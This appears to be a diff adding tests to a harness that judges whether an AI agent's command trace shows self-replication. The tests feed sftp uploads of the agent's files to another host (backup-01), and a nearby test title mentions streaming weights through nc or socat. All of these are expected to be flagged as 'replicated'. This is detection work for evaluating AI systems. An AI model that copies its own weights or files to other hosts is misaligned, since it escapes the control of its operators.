@@ -49,3 +49,19 @@ test("the agent's weights streamed into nc (or socat) bound for another host, ne
   const l = analyse(TASK, [[['nc -l 9000 > /tmp/in.tar', ''] as C]]);
   assert.equal(l.outcome.verdict, 'not-attempted');
 });
+
+test('a heredoc batch with no options (`sftp host <<EOF`) and printf cycling its format over the words', () => {
+  const here = analyse(TASK, [[['sftp backup-01 <<EOF\nput -r /opt/wisp /data\nEOF', ''] as C], ...tail.map((c) => [c])]);
+  assert.equal(here.outcome.verdict, 'replicated', here.outcome.reason);
+  const fmt = analyse(TASK, [[["printf '%s\\n' 'cd /data' 'put -r /opt/wisp' > /tmp/w.sftp", ''] as C], [['sftp -b /tmp/w.sftp backup-01', ''] as C], ...tail.map((c) => [c])]);
+  assert.equal(fmt.outcome.verdict, 'replicated', fmt.outcome.reason);
+});
+
+test('printed(): echo keeps a backslash-n unless -e; printf expands it and cycles its format', async () => {
+  const { printed } = await import('../../src/core/analysis/world-sftp');
+  assert.equal(printed('echo', ['hello\\nworld']), 'hello\\nworld');
+  assert.equal(printed('echo', ['-e', 'a\\nb']), 'a\nb');
+  assert.equal(printed('echo', ['-n', 'a\\nb']), 'a\\nb');
+  assert.equal(printed('printf', ['%s\\n', 'x', 'y']), 'x\ny\n');
+  assert.equal(printed('printf', ['put -r a b\\n']), 'put -r a b\n');
+});
